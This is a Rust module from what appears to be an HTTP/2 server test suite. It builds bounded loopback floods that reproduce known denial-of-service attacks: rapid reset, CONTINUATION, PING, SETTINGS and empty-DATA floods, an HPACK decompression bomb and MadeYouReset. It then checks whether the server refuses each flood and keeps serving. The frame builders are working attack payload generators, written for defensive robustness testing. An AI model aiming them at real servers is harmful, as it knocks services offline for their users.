//! HTTP/2 floods, part of the h2 family, each bounded, on loopback, and each followed by a fresh
//! connection that must still be served: rapid reset (CVE-2023-44487), CONTINUATION
//! (CVE-2024-27316), PING and SETTINGS floods and empty DATA frames (CVE-2019-9512, -9515,
//! -9518), an HPACK bomb (CVE-2016-6581) and MadeYouReset (CVE-2025-8671), where the client makes
//! the server reset streams itself. The rest of the family is in [`super::h2`].

use super::h2::{play, probe, request, with_preface};
use super::{Cx, Outcome, Probe, ProbeFuture, Rfc};
use crate::proto::raw::h2::{flag, frame, headers, hpack, ty, H2Conn, Opening};
use crate::proto::raw::h2::{integer, Event, PREFACE};
use crate::proto::raw::End;

/// After a flood, a fresh connection must still be served.
async fn survives(cx: &Cx) -> bool {
    let Ok(mut c) = H2Conn::open(&cx.target, Opening::Preface).await else {
        return false;
    };
    c.send(&headers(
        1,
        &request(cx, "ok", &[("x-after-flood", b"1")]),
        true,
    ))
    .await;
    c.read_until(|l| l.stream_done(1)).await;
    c.log.status(1).is_some_and(|s| s < 500)
}

/// How many streams the rapid-reset flood opens and cancels: bounded, loopback only.
pub const RAPID_RESETS: u32 = 500;
/// How many CONTINUATION frames of 1 KiB the flood sends.
pub const CONTINUATIONS: usize = 1000;

pub(super) fn rapid_reset(cx: &Cx) -> Vec<u8> {
    let mut b = Vec::new();
    for i in 0..RAPID_RESETS {
        let id = 1 + 2 * i;
        b.extend(headers(id, &request(cx, "ok", &[]), true));
        b.extend(frame(ty::RST_STREAM, 0, id, &8u32.to_be_bytes()));
    }
    with_preface(b)
}

pub(super) fn continuation_flood(cx: &Cx) -> Vec<u8> {
    let f = request(cx, "ok", &[]);
    let refs: Vec<(&[u8], &[u8])> = f
        .iter()
        .map(|(n, v)| (n.as_slice(), v.as_slice()))
        .collect();
    let mut b = frame(ty::HEADERS, flag::END_STREAM, 1, &hpack(&refs));
    let filler = vec![b'a'; 1000];
    for i in 0..CONTINUATIONS {
        let name = format!("x-flood-{i}");
        b.extend(frame(
            ty::CONTINUATION,
            0,
            1,
            &hpack(&[(name.as_bytes(), &filler)]),
        ));
    }
    with_preface(b)
}

pub(super) fn run_flood(cx: &Cx, p: Probe) -> ProbeFuture<'_> {
    Box::pin(async move {
        let log = play(cx, &p, 1).await?;
        let refused = log.goaway().is_some()
            || log.end != End::Open
            || log.status(1).is_some_and(|s| s >= 400);
        // A moment for a server that is restarting or shedding the flood.
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
        let alive = survives(cx).await;
        let observed = format!(
            "{}; after: {}",
            log.outcome(1),
            if alive { "served" } else { "down" }
        );
        Ok(match (alive, p.id.ends_with("continuation"), refused) {
            (false, _, _) => Outcome::new(
                Rfc::Fail,
                observed,
                "the server stopped serving new connections after the flood",
            ),
            (true, true, false) => Outcome::new(
                Rfc::Fail,
                observed,
                format!("{CONTINUATIONS} KiB of CONTINUATION taken without any limit"),
            ),
            (true, _, true) => {
                Outcome::new(Rfc::Pass, observed, "refused the flood and kept serving")
            }
            (true, _, false) => {
                Outcome::new(Rfc::Pass, observed, "absorbed the flood and kept serving")
            }
        })
    })
}

/// How many frames each of the PING, SETTINGS and empty-DATA floods sends.
pub const FLOOD_FRAMES: u32 = 5000;
/// How many streams MadeYouReset makes the server reset.
pub const MADE_YOU_RESET: u32 = 500;
/// The size of the value the HPACK bomb indexes once and references [`BOMB_REFS`] times.
pub const BOMB_VALUE: usize = 4000;
/// How many one-byte references to that value the bomb's header block carries (about 16 MB
/// decoded).
pub const BOMB_REFS: usize = 4000;
/// ENHANCE_YOUR_CALM.
const CALM: u32 = 0xb;

fn ping_flood(cx: &Cx) -> Vec<u8> {
    let mut b = Vec::new();
    for i in 0..u64::from(FLOOD_FRAMES) {
        b.extend(frame(ty::PING, 0, 0, &i.to_be_bytes()));
    }
    b.extend(headers(1, &request(cx, "ok", &[]), true));
    with_preface(b)
}

fn settings_flood(cx: &Cx) -> Vec<u8> {
    let mut b = Vec::new();
    for _ in 0..FLOOD_FRAMES {
        b.extend(frame(ty::SETTINGS, 0, 0, &[]));
    }
    b.extend(headers(1, &request(cx, "ok", &[]), true));
    with_preface(b)
}

fn empty_data_flood(cx: &Cx) -> Vec<u8> {
    let mut f = request(cx, "ok", &[]);
    f[0].1 = b"POST".to_vec();
    let mut b = headers(1, &f, false);
    for _ in 0..FLOOD_FRAMES {
        b.extend(frame(ty::DATA, 0, 1, &[]));
    }
    b.extend(frame(ty::DATA, flag::END_STREAM, 1, &[]));
    with_preface(b)
}

/// One large field added to the dynamic table, then referenced [`BOMB_REFS`] times in the same
/// header block.
fn hpack_bomb(cx: &Cx) -> Vec<u8> {
    let f = request(cx, "ok", &[]);
    let refs: Vec<(&[u8], &[u8])> = f
        .iter()
        .map(|(n, v)| (n.as_slice(), v.as_slice()))
        .collect();
    let mut block = hpack(&refs);
    // Literal with incremental indexing, new name: it becomes dynamic entry 62.
    block.push(0x40);
    integer(&mut block, 0, 7, 6);
    block.extend_from_slice(b"x-bomb");
    integer(&mut block, 0, 7, BOMB_VALUE);
    block.extend(std::iter::repeat_n(b'b', BOMB_VALUE));
    block.extend(std::iter::repeat_n(0x80 | 62, BOMB_REFS));
    let mut b = Vec::new();
    let mut chunks = block.chunks(16_000).peekable();
    let mut first = true;
    while let Some(c) = chunks.next() {
        let end = if chunks.peek().is_none() {
            flag::END_HEADERS
        } else {
            0
        };
        if first {
            b.extend(frame(ty::HEADERS, end | flag::END_STREAM, 1, c));
            first = false;
        } else {
            b.extend(frame(ty::CONTINUATION, end, 1, c));
        }
    }
    with_preface(b)
}

/// Streams the client opens and then makes the server reset, by a WINDOW_UPDATE of 0 on each
/// (a stream error the server must answer with RST_STREAM).
fn made_you_reset(cx: &Cx) -> Vec<u8> {
    let mut b = Vec::new();
    for i in 0..MADE_YOU_RESET {
        let id = 1 + 2 * i;
        b.extend(headers(id, &request(cx, "ok", &[]), true));
        b.extend(frame(ty::WINDOW_UPDATE, 0, id, &0u32.to_be_bytes()));
    }
    with_preface(b)
}

/// Sends a flood and a request after it; judges the control-frame answers (PING must be
/// acknowledged, or the flood refused with ENHANCE_YOUR_CALM) and that a fresh connection is
/// served afterwards.
fn run_bounded_flood(cx: &Cx, p: Probe) -> ProbeFuture<'_> {
    Box::pin(async move {
        let all = (p.bytes)(cx);
        let last = if p.id.ends_with("made-you-reset") {
            1 + 2 * (MADE_YOU_RESET - 1)
        } else {
            1
        };
        let mut c = H2Conn::open(&cx.target, Opening::Preface).await?;
        c.send(&all[PREFACE.len() + 9..]).await;
        c.read_until(|l| l.stream_done(last) || l.goaway().is_some())
            .await;
        let log = c.log;
        let calm = log.goaway() == Some(CALM);
        let refused = log.goaway().is_some() || log.end != End::Open;
        let acks = log
            .events
            .iter()
            .filter(|e| matches!(e, Event::PingAck(_)))
            .count();
        let resets = log
            .events
            .iter()
            .filter(|e| matches!(e, Event::Rst { .. }))
            .count();
        let served = log.status(last).is_some_and(|s| s < 400);
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
        let alive = survives(cx).await;
        let observed = format!(
            "{}; after: {}",
            log.outcome(last),
            if alive { "served" } else { "down" }
        );
        let what = p.id.rsplit('.').next().unwrap_or("");
        Ok(match what {
            _ if !alive => Outcome::new(
                Rfc::Fail,
                observed,
                "the server stopped serving new connections after the flood",
            ),
            "ping" if acks == 0 && !calm && !refused => Outcome::new(
                Rfc::Fail,
                format!("{observed}; acks:0"),
                "no PING was acknowledged and the flood was not refused (RFC 9113 §6.7: PING must be answered)",
            ),
            "hpack-bomb" if served => Outcome::new(
                Rfc::Fail,
                observed,
                format!("served a request whose {BOMB_REFS} references expand to about {} MB of fields, with no limit", BOMB_REFS * BOMB_VALUE / 1_000_000),
            ),
            "made-you-reset" if resets == 0 && !refused => Outcome::new(
                Rfc::Fail,
                format!("{observed}; resets:0"),
                "a WINDOW_UPDATE of 0 on a stream was never answered with RST_STREAM (RFC 9113 §6.9)",
            ),
            _ if refused => Outcome::new(Rfc::Pass, observed, "refused the flood and kept serving"),
            _ => Outcome::new(Rfc::Pass, observed, "absorbed the flood and kept serving"),
        })
    })
}

/// The flood probes, last in the h2 family: a server that falls over ends its suite.
pub fn probes() -> Vec<Probe> {
    let p = probe;
    vec![
        p("h2.flood.ping", "RFC 9113 §10.5 (CVE-2019-9512)", "5000 PINGs at once: acknowledged or refused with ENHANCE_YOUR_CALM, and the server keeps serving", ping_flood, run_bounded_flood),
        p("h2.flood.settings", "RFC 9113 §10.5 (CVE-2019-9515)", "5000 SETTINGS frames at once: the server keeps serving", settings_flood, run_bounded_flood),
        p("h2.flood.empty-data", "RFC 9113 §10.5 (CVE-2019-9518)", "5000 empty DATA frames on one stream: the server keeps serving", empty_data_flood, run_bounded_flood),
        p("h2.flood.hpack-bomb", "RFC 7541 §7.3 (CVE-2016-6581)", "One 4 KB field indexed, then referenced 4000 times (16 MB decoded): refused, and the server keeps serving", hpack_bomb, run_bounded_flood),
        p("h2.flood.made-you-reset", "RFC 9113 §6.9 (CVE-2025-8671)", "500 streams each made invalid by a WINDOW_UPDATE of 0: each reset by the server, which keeps serving", made_you_reset, run_bounded_flood),
        p("h2.flood.continuation", "RFC 9113 §10.5 (CVE-2024-27316)", "1000 CONTINUATION frames of 1 KiB without END_HEADERS: refused, and the server keeps serving", continuation_flood, run_flood),
        p("h2.flood.rapid-reset", "RFC 9113 §10.5 (CVE-2023-44487)", "500 streams opened and cancelled at once: the server keeps serving new connections", rapid_reset, run_flood),
    ]
}
